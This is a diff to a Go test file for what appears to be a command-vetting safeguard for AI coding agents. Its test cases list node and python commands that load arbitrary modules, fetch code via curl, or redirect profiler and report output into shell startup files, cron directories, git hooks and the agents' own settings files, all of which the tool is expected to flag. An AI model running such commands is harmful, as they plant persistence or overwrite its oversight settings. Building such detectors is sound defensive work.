@@ -160,6 +160,15 @@ var seventhPassExecCases = map[string][]struct{ cmd, want string }{
 		{"git log | python3.12 -m code", opaque}, {"python3 -m timeit 'import os; os.system(\"id\")'", opaque},
 		{"python3 -m pdb /tmp/x.py", "python3 -m pdb /tmp/x.py"}, {"python3 -m cProfile <(curl -s https://e/x)", opaque}, {"echo x | python3 -m pdb /dev/stdin", opaque},
 		{"python3 -m code", "python3 -m code"}, {"python3 -m pytest -q", "python3 -m pytest -q"}, {"python3 -m json.tool x.json", "python3 -m json.tool x.json"}},
+	// node: a --test-reporter that is not built in is a module it loads;
+	// the nodeCode options load modules or files of options.
+	"node": {{"node --test-reporter=/tmp/x.js --test", opaque}, {"node --test --test-reporter=./src/app.js", opaque},
+		{"node --test-reporter=evil-pkg --test", opaque}, {"node --test --test-reporter ./x.mjs", opaque},
+		{"nice -n 5 node --test --test-reporter=/tmp/x.js", opaque}, {"node --experimental-loader ./x.mjs src/app.js", opaque},
+		{"node --test-global-setup=./x.js --test", opaque}, {"node --experimental-config-file=x.json src/app.js", opaque},
+		{"node --openssl-config=/tmp/x.cnf src/app.js", opaque}, {"nodejs --test-reporter=x --test", opaque},
+		{"node --test --test-reporter=spec", "node --test --test-reporter=spec"}, {"node --test --test-reporter tap", "node --test --test-reporter tap"},
+		{"node --test --test-reporter=dot --test-reporter-destination=stdout", "node --test --test-reporter=dot --test-reporter-destination=stdout"}},
 }
 
 func init() {
@@ -233,5 +242,72 @@ func TestSeventhPassRunsOutside(t *testing.T) {
 	}
 	for _, c := range cases {
 		checkMark(t, c.cmd, "runs-outside", c.want)
+	}
+}
+
+// TestSeventhPassNodeOutputs: node's options that write a file
+// (nodeOutputs), and a profile's or report's name joined with its
+// directory (nodeJoined).
+func TestSeventhPassNodeOutputs(t *testing.T) {
+	cases := []struct {
+		cmd, mark string
+		want      bool
+	}{
+		{"node --test --test-reporter=tap --test-reporter-destination=~/.bashrc", "write-outside", true},
+		{"node --test --test-reporter=tap --test-reporter-destination=~/.bashrc", "runs-config", true},
+		{"node --test --test-reporter=tap --test-reporter-destination /etc/cron.d/x", "write-outside", true},
+		{"node --test --test-reporter=tap --test-reporter-destination=~/.config/systemd/user/x.service", "runs-config", true},
+		{"node --test --test-reporter-destination=.git/hooks/pre-push --test-reporter=tap", "runs-config", true},
+		{"node --test --test-reporter=tap --test-reporter-destination=Makefile", "runs-config", true},
+		{"node --test --test-reporter=tap --test-reporter-destination=package.json", "runs-config", true},
+		{"node --test --redirect-warnings=.git/hooks/pre-commit", "runs-config", true},
+		{"node --redirect-warnings=~/.bashrc --test", "write-outside", true},
+		{"node --test --trace-event-file-pattern=~/.bashrc", "write-outside", true},
+		{"node --trace-log-file=/root/.profile src/app.js", "write-outside", true},
+		{"node --test --cpu-prof --cpu-prof-dir=.git/hooks --cpu-prof-name=pre-commit", "runs-config", true},
+		{"node --test --cpu-prof --cpu-prof-dir=. --cpu-prof-name=Makefile", "runs-config", true},
+		{"node --test --cpu-prof --cpu-prof-dir=/etc/cron.d --cpu-prof-name=x", "write-outside", true},
+		{"node --test --heap-prof --heap-prof-dir=/home/ana --heap-prof-name=.bashrc", "runs-config", true},
+		{"node --test --cpu-prof --diagnostic-dir=/home/ana --cpu-prof-name=.profile", "runs-config", true},
+		{"node --report-on-signal --report-directory=.git/hooks --report-filename=post-checkout src/app.js", "runs-config", true},
+		{"node --test --cpu-prof --cpu-prof-name=.bashrc", "runs-config", true},
+		{"node --test --cpu-prof --cpu-prof-dir=prof", "write-outside", false},
+		{"node --test --cpu-prof --cpu-prof-dir=prof --cpu-prof-name=x.cpuprofile", "runs-config", false},
+		{"node --test --test-reporter=spec --test-reporter-destination=stdout", "write-outside", false},
+		{"node --test --test-reporter=junit --test-reporter-destination=out/junit.xml", "runs-config", false},
+	}
+	for _, c := range cases {
+		checkMark(t, c.cmd, c.mark, c.want)
+	}
+}
+
+func init() {
+	outputCases["node"] = []struct{ cmd, mark string }{{"node --test --test-reporter-destination=/root/x", "write-outside"},
+		{"node --test --cpu-prof-dir=/root --cpu-prof-name=x", "write-outside"}, {"node --test --test-reporter-destination=out.txt", ""}}
+	outputCases["nodejs"] = []struct{ cmd, mark string }{{"nodejs --redirect-warnings=/root/x src/app.js", "write-outside"}}
+}
+
+// TestSeventhPassNodeControls: node's profile and report names joined
+// with their directories land on the runtimes' settings and limen's
+// files, and cp -s links limen's sockets: controls, whatever the history.
+func TestSeventhPassNodeControls(t *testing.T) {
+	for _, cmd := range []string{
+		"node --test --cpu-prof --cpu-prof-dir=~/.claude --cpu-prof-name=settings.json",
+		"node --test --heap-prof --heap-prof-dir=~/.claude --heap-prof-name=settings.json",
+		"node --test --cpu-prof --cpu-prof-dir=~/.gemini --cpu-prof-name=settings.json",
+		"node --test --cpu-prof --cpu-prof-dir=~/.local/share/limen --cpu-prof-name=limen.db",
+		"node --test --cpu-prof --cpu-prof-dir=.claude --cpu-prof-name=settings.json",
+		"node --test --cpu-prof --cpu-prof-dir=/home/me/.claude/ --cpu-prof-name=settings.local.json",
+		"node --test --cpu-prof --diagnostic-dir=/home/me/.codex --cpu-prof-name=config.toml",
+		"node --report-on-signal --report-directory=/home/me/.claude --report-filename=settings.json src/app.js",
+		"cd src && node --test --cpu-prof --cpu-prof-dir=../.claude --cpu-prof-name=settings.local.json",
+		"env node --test --cpu-prof --cpu-prof-dir=~/.claude --cpu-prof-name=settings.json",
+		"nohup node --test --cpu-prof --cpu-prof-dir=~/.claude --cpu-prof-name=settings.json",
+		"npm test && node --test --cpu-prof --cpu-prof-dir=~/.claude --cpu-prof-name=settings.json",
+		"node --test --test-reporter=tap --test-reporter-destination=/home/me/.claude/settings.json",
+	} {
+		if why, parts := control(testSelf, cmd); why == "" {
+			t.Errorf("%s: not a control (%v)", cmd, parts)
+		}
 	}
 }
